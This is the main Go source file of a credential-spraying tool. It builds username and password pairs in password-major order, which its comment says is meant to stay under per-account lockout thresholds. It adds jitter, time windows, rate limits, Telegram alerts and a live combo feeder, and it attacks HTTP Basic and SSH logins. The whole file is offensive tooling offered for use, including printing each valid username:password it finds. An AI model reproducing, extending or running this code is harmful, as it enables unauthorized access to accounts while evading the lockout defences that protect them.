package main

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"os"
	"os/signal"
	"strconv"
	"strings"
	"syscall"
	"time"

	"github.com/akamensky/argparse"
	"github.com/coreos/go-systemd/v22/daemon"
	"github.com/google/uuid"

	"sprayer/internal/callback"
	"sprayer/internal/config"
	"sprayer/internal/engine"
	"sprayer/internal/eventbus"
	"sprayer/internal/feeder"
	"sprayer/internal/jitter"
	"sprayer/internal/notify"
	"sprayer/internal/router"
	"sprayer/internal/store"
	logx "sprayer/pkg/logx"
)

func main() {
	parser := argparse.NewParser("sprayer", "horizontal credential spraying engine")
	cfgPath := parser.String("c", "config", &argparse.Options{
		Default: "./config.yaml",
		Help:    "path to the run configuration (yaml or json)",
	})
	usersPath := parser.String("u", "users", &argparse.Options{
		Help: "file with one username per line",
	})
	passPath := parser.String("p", "passwords", &argparse.Options{
		Help: "file with one password per line",
	})
	combosPath := parser.String("C", "combos", &argparse.Options{
		Help: "file with user:pass lines, merged after the user/password product",
	})
	if err := parser.Parse(os.Args); err != nil {
		fmt.Fprint(os.Stderr, parser.Usage(err))
		os.Exit(2)
	}

	ctx, cancel := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer cancel()

	if err := run(ctx, *cfgPath, *usersPath, *passPath, *combosPath); err != nil {
		fmt.Fprintln(os.Stderr, "fatal:", err)
		os.Exit(1)
	}
}

func run(ctx context.Context, cfgPath, usersPath, passPath, combosPath string) error {
	cfg, err := config.Load(cfgPath)
	if err != nil {
		return fmt.Errorf("load config %s: %w", cfgPath, err)
	}

	logSvc, log := logx.New(logx.Config{
		Level:   cfg.Log.Level,
		Console: cfg.Log.Console,
		Stderr:  cfg.Log.Stderr,
		File:    logx.FileConfig{Enabled: cfg.Log.File != "", Path: cfg.Log.File},
	})
	defer logSvc.Close()

	pairs, err := loadPairs(usersPath, passPath, combosPath)
	if err != nil {
		return err
	}
	if len(pairs) == 0 && cfg.Feeder == nil {
		return fmt.Errorf("no credential pairs: provide --users/--passwords, --combos or a feeder")
	}

	runID := uuid.NewString()
	log = log.With(logx.String("run_id", runID))

	busyTimeout, _ := config.ParseDurationField("storage.busy_timeout", cfg.Storage.BusyTimeout)
	leaseTimeout, _ := config.ParseDurationField("storage.lease_timeout", cfg.Storage.LeaseTimeout)
	st, err := store.Open(store.Config{
		Driver:       cfg.Storage.Driver,
		Path:         cfg.Storage.Path,
		DSN:          cfg.Storage.DSN,
		BusyTimeout:  busyTimeout,
		LeaseTimeout: leaseTimeout,
		RunID:        runID,
	}, log)
	if err != nil {
		return fmt.Errorf("open store: %w", err)
	}
	defer st.Close()

	attemptJitter, err := jitter.Parse(cfg.Run.AttemptJitter)
	if err != nil {
		return fmt.Errorf("run.attempt_jitter: %w", err)
	}
	thresholdJitter, err := jitter.Parse(cfg.Run.ThresholdJitter)
	if err != nil {
		return fmt.Errorf("run.threshold_jitter: %w", err)
	}

	rtr, err := buildRouter(cfg.Router)
	if err != nil {
		return err
	}

	var window *engine.Window
	if cfg.Window != nil {
		dur, _ := config.ParseDurationField("window.duration", cfg.Window.Duration)
		window, err = engine.ParseWindow(cfg.Window.Cron, dur)
		if err != nil {
			return fmt.Errorf("window.cron: %w", err)
		}
	}

	cb, err := buildCallback(cfg.Target)
	if err != nil {
		return err
	}

	drainGrace, _ := config.ParseDurationField("run.drain_grace", cfg.Run.DrainGrace)

	bus := eventbus.New()
	eng, err := engine.New(engine.Config{
		Workers:          cfg.Run.Workers,
		MaxAuthTries:     cfg.Run.MaxAuthTries,
		StopOnValid:      cfg.Run.StopOnValid,
		AttemptJitter:    attemptJitter,
		ThresholdJitter:  thresholdJitter,
		Callback:         cb,
		Router:           rtr,
		GlobalRatePerSec: cfg.Run.GlobalRatePerSec,
		Window:           window,
		DrainGrace:       drainGrace,
		Linger:           cfg.Feeder != nil,
	}, st, log, bus)
	if err != nil {
		return err
	}

	if cfg.Alerts != nil {
		alerts, err := notify.New(notify.Config{
			Token:      cfg.Alerts.TelegramToken,
			ChatID:     cfg.Alerts.ChatID,
			RatePerSec: cfg.Alerts.RatePerSec,
		}, log)
		if err != nil {
			return err
		}
		go alerts.Run(ctx, bus)
	}

	if cfg.Feeder != nil {
		f := feeder.New(cfg.Feeder.ComboFile, eng.Feed, log)
		go func() {
			if err := f.Run(ctx); err != nil && ctx.Err() == nil {
				log.Error("feeder stopped", logx.Err(err))
			}
		}()
	}

	notifySystemd(ctx, log)

	sum, runErr := eng.Run(ctx, pairs)

	for _, p := range sum.Valid {
		fmt.Printf("VALID %s:%s\n", p.Username, p.Password)
	}
	fmt.Printf("attempted=%d successes=%d failures=%d errored=%d elapsed=%s\n",
		sum.Attempted, sum.Successes, sum.Failures, sum.Errored, sum.Elapsed.Round(time.Millisecond))

	if runErr != nil && !errors.Is(runErr, context.Canceled) {
		return runErr
	}
	return nil
}

// loadPairs builds the candidate list. The user x password product is ordered
// password-major: every account sees password N before any account sees
// password N+1, which keeps the spray horizontal under per-account thresholds.
func loadPairs(usersPath, passPath, combosPath string) ([]store.Pair, error) {
	var pairs []store.Pair

	if usersPath != "" || passPath != "" {
		if usersPath == "" || passPath == "" {
			return nil, fmt.Errorf("--users and --passwords must be given together")
		}
		users, err := readLines(usersPath)
		if err != nil {
			return nil, err
		}
		passwords, err := readLines(passPath)
		if err != nil {
			return nil, err
		}
		for _, pw := range passwords {
			for _, u := range users {
				pairs = append(pairs, store.Pair{Username: u, Password: pw})
			}
		}
	}

	if combosPath != "" {
		f, err := os.Open(combosPath)
		if err != nil {
			return nil, err
		}
		defer f.Close()
		sc := bufio.NewScanner(f)
		for sc.Scan() {
			if p, ok := feeder.ParseComboLine(sc.Text()); ok {
				pairs = append(pairs, p)
			}
		}
		if err := sc.Err(); err != nil {
			return nil, err
		}
	}

	return pairs, nil
}

func readLines(path string) ([]string, error) {
	f, err := os.Open(path)
	if err != nil {
		return nil, err
	}
	defer f.Close()

	var out []string
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		s := strings.TrimSpace(sc.Text())
		if s == "" || strings.HasPrefix(s, "#") {
			continue
		}
		out = append(out, s)
	}
	return out, sc.Err()
}

func buildRouter(table map[string]string) (*router.Router, error) {
	handlers := make(map[router.Category]router.Handler, len(table))
	for cat, action := range table {
		switch {
		case action == "continue":
			// explicit default, nothing to register
		case action == "abort":
			handlers[router.Category(cat)] = func(router.Context) router.Decision {
				return router.Abort
			}
		case strings.HasPrefix(action, "abort_after:"):
			n, err := strconv.Atoi(strings.TrimPrefix(action, "abort_after:"))
			if err != nil || n < 0 {
				return nil, fmt.Errorf("router.%s: bad threshold in %q", cat, action)
			}
			handlers[router.Category(cat)] = router.AbortAfterErrors(n)
		default:
			return nil, fmt.Errorf("router.%s: unknown action %q", cat, action)
		}
	}
	return router.New(handlers), nil
}

func buildCallback(t config.TargetConfig) (engine.Callback, error) {
	timeout, _ := config.ParseDurationField("target.timeout", t.Timeout)
	switch t.Kind {
	case "http_basic":
		return callback.HTTPBasic(t.URL, timeout), nil
	case "ssh":
		return callback.SSHPassword(t.Addr, timeout), nil
	default:
		return nil, fmt.Errorf("target.kind: unsupported kind %q", t.Kind)
	}
}

// notifySystemd reports readiness and feeds the watchdog when running under a
// systemd unit. Outside systemd both calls are no-ops.
func notifySystemd(ctx context.Context, log logx.Logger) {
	if _, err := daemon.SdNotify(false, daemon.SdNotifyReady); err != nil {
		log.Debug("sd_notify unavailable", logx.Err(err))
	}
	interval, err := daemon.SdWatchdogEnabled(false)
	if err != nil || interval == 0 {
		return
	}
	go func() {
		t := time.NewTicker(interval / 2)
		defer t.Stop()
		for {
			select {
			case <-ctx.Done():
				return
			case <-t.C:
				_, _ = daemon.SdNotify(false, daemon.SdNotifyWatchdog)
			}
		}
	}()
}
